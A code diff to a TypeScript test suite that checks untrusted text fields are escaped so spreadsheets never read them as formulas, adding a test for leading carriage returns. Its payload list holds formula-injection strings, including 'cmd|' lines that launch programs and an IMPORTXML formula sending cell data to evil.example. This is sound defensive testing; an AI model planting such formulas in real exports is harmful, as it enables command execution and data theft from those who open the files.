@@ -167,7 +167,6 @@ describe('untrusted text never becomes a formula', () => {
     '+cmd|\' /C notepad\'!\'A1\'',
     '=cmd|\' /C calc\'!A0',
     '\t=1+1',
-    '\r=1+1',
     '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
   ];
   const textFields = ['quote', 'note', 'sourceTitle', 'heading', 'school', 'practice'] as const;
@@ -181,6 +180,13 @@ describe('untrusted text never becomes a formula', () => {
       expect(cell).toBe(`'${payload}`);
       expect(cell).not.toMatch(/^[=+\-@\t\r]/);
     }
+  });
+
+  it('stores a leading carriage return as a line break, which no spreadsheet reads as a formula', () => {
+    const host = fakeHost();
+    clipReply(send(host, clipBody([clipItem({ quote: '\r=1+1', note: '\r\n+1' })])));
+    expect(host.rows[0][column('quote')]).toBe('\n=1+1');
+    expect(host.rows[0][column('note')]).toBe('\n+1');
   });
 });
 
